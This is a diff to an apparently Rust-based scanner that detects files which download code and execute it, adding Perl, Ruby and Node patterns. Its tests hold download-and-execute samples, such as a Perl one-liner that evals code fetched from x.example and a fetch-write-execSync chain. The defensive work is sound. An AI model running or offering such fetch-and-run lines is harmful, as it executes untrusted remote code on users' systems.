@@ -7,8 +7,9 @@
 //! The file is read statement by statement (lines, split at `;`), following what a download
 //! taints: a variable assigned from a download (or from a tainted variable), the parameters of
 //! a callback in a statement that downloads, a variable a tainted value is added to
-//! (`data += chunk`), a file a download is saved to (`urlretrieve(url, "p.py")`). A statement
-//! that runs code (`exec`, `eval`, `Function`, `subprocess.run`, `os.system`, `Invoke-Expression`,
+//! (`data += chunk`), a file a download is saved to (`urlretrieve(url, "p.py")`,
+//! `getstore($url, "/tmp/p")`, `File.write("p.rb", URI.open(u).read)`). A statement that runs code (`exec`, `eval`, `Function`,
+//! `subprocess.run`, `os.system`, `Invoke-Expression`, Perl's `do FILE`, Ruby's `load FILE`,
 //! ...) with a download or a tainted value in its argument is high. A file that downloads and
 //! also evaluates code the checks could not tie to the download is medium: worth a look.
 //! A shell pipe (`iwr URL | iex`, `curl URL | python3`) is the pattern table's, judged by its
@@ -71,6 +72,9 @@ static SINKS: LazyLock<Option<Vec<(Regex, bool)>>> = LazyLock::new(|| {
         r"\b(?:eval|instance_eval|class_eval|module_eval)\s+[$@A-Za-z_]",
         r"(?i:\b(?:iex|invoke-expression)\b\s*[(\$\[]|\[scriptblock\]::create\s*\()",
         r"\b(?:include|require)(?:_once)?\s*\(?\s*\$",
+        // A file run as code: Perl's `do FILE`, `require FILE`, Ruby's `load FILE`.
+        // (Node's `require('https')` loads a module by name: not a file).
+        r#"(?:^|[^.\w$>-])(?:do\s*\(?|require\s)\s*['"$]|(?:^|[^.\w])load\s*\(?\s*['"]"#,
     ];
     let command = [
         r"\bsubprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)\s*\(",
@@ -103,9 +107,24 @@ static PARAMETERS: LazyLock<Option<Regex>> = LazyLock::new(|| {
 static APPEND: LazyLock<Option<Regex>> =
     LazyLock::new(|| ascii_regex(r"[$@]?([A-Za-z_]\w*)\s*(?:\+=|\.=|<<)\s*[$@]?([A-Za-z_]\w*)"));
 
-/// `urlretrieve(URL, FILE)`: the file a download is saved to.
+/// `urlretrieve(URL, FILE)` (Python), `getstore(URL, FILE)` and `mirror(URL, FILE)` (Perl's
+/// LWP::Simple): the file a download is saved to.
 static RETRIEVE: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    ascii_regex(r#"\burlretrieve\s*\([^,]+,\s*(?:['"]([^'"]+)['"]|([A-Za-z_]\w*))"#)
+    ascii_regex(
+        r#"\b(urlretrieve|getstore|mirror)\s*\([^,]+,\s*(?:['"]([^'"]+)['"]|[$]?([A-Za-z_]\w*))"#,
+    )
+});
+
+/// A file written in a statement that downloads (`File.write('p.rb', URI.open(u).read)`,
+/// `fs.writeFileSync('p.js', body)`, `file_put_contents('p.php', …)`,
+/// `IO.copy_stream(URI.open(u), 'p.rb')`, `open('p.py', 'w').write(…)`): the file a download
+/// is saved to.
+static WRITE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    ascii_regex(concat!(
+        r#"\b(?:File\.(?:bin)?write|writeFileSync|writeFile|file_put_contents)\s*\(\s*['"]([^'"]+)['"]"#,
+        r#"|\bIO\.copy_stream\s*\([^,]+,\s*['"]([^'"]+)['"]"#,
+        r#"|(?:^|[^.\w])open\s*\(\s*['"]([^'"]+)['"]\s*,\s*['"][wa]"#,
+    ))
 });
 
 /// What a download tainted, each with the call that downloaded.
@@ -203,7 +222,7 @@ pub(crate) fn scan(file: &TextFile<'_>, cap: usize, out: &mut Vec<Finding>) {
         ..Taint::default()
     };
     // Most files download nothing or run nothing: a look at the whole file settles it.
-    if taint.in_text(file.text, true).is_none() {
+    if taint.in_text(file.text, true).is_none() && !(taint.lwp && retrieve.is_match(file.text)) {
         return;
     }
     let sinks: Vec<&(Regex, bool)> = sinks
@@ -224,6 +243,13 @@ pub(crate) fn scan(file: &TextFile<'_>, cap: usize, out: &mut Vec<Finding>) {
             let source = taint.in_text(statement, true);
             if let Some(source) = &source {
                 first_source.get_or_insert_with(|| source.clone());
+                if let Some(caps) = WRITE.as_ref().and_then(|re| re.captures(statement))
+                    && let Some(saved) = caps.iter().skip(1).flatten().next()
+                {
+                    taint
+                        .files
+                        .insert(saved.as_str().to_owned(), source.clone());
+                }
                 for caps in parameters.captures_iter(statement) {
                     if let Some(name) = caps.iter().skip(1).flatten().next() {
                         taint.names.insert(name.as_str().to_owned(), source.clone());
@@ -239,12 +265,13 @@ pub(crate) fn scan(file: &TextFile<'_>, cap: usize, out: &mut Vec<Finding>) {
                     taint.names.insert(to.as_str().to_owned(), source);
                 }
             }
-            if statement.contains("urlretrieve")
-                && let Some(caps) = retrieve.captures(statement)
-                && let Some(saved) = caps.get(1).or_else(|| caps.get(2))
+            if let Some(caps) = retrieve.captures(statement)
+                && let Some(saved) = caps.get(2).or_else(|| caps.get(3))
+                // `mirror` is LWP::Simple's only where the file uses it.
+                && (taint.lwp || caps.get(1).is_some_and(|f| f.as_str() != "mirror"))
             {
-                let source = "urlretrieve".to_owned();
-                match caps.get(1) {
+                let source = caps.get(1).map_or("", |m| m.as_str()).to_owned();
+                match caps.get(2) {
                     Some(_) => taint.files.insert(saved.as_str().to_owned(), source),
                     None => taint.names.insert(saved.as_str().to_owned(), source),
                 };
@@ -391,6 +418,26 @@ mod tests {
                 3,
             ),
             (
+                "a.pl",
+                "use LWP::Simple;\ngetstore(\"http://x.example/p\", \"/tmp/p.pl\");\ndo \"/tmp/p.pl\";",
+                3,
+            ),
+            (
+                "a.js",
+                "const body = await (await fetch(u)).text();\nfs.writeFileSync('/tmp/p.js', body);\nrequire('child_process').execSync('node /tmp/p.js');",
+                3,
+            ),
+            (
+                "a.pl",
+                "use LWP::Simple;\nmy $f = '/tmp/p.pm';\nmirror($url, $f);\nrequire $f;",
+                4,
+            ),
+            (
+                "a.rb",
+                "require 'open-uri'\nFile.write('/tmp/p.rb', URI.open(u).read)\nload '/tmp/p.rb'",
+                3,
+            ),
+            (
                 "a.sh",
                 "perl -MLWP::Simple -e 'eval get(\"http://x.example/p.pl\")'",
                 1,
@@ -467,6 +514,14 @@ mod tests {
             ("a.py", "value = eval('1 + 1')"),
             ("a.rb", "open('notes.txt').read"),
             ("a.py", "d = {}.get('x')\neval(d)"),
+            (
+                "a.rb",
+                "require 'open-uri'\nrequire 'json'\nload 'tasks/setup.rb'\ndata = URI.open(u).read",
+            ),
+            (
+                "a.pl",
+                "use LWP::Simple;\ndo './config.pl';\nmy $page = get($url);\nprint $page;",
+            ),
         ] {
             assert!(
                 found(path, text).is_empty(),
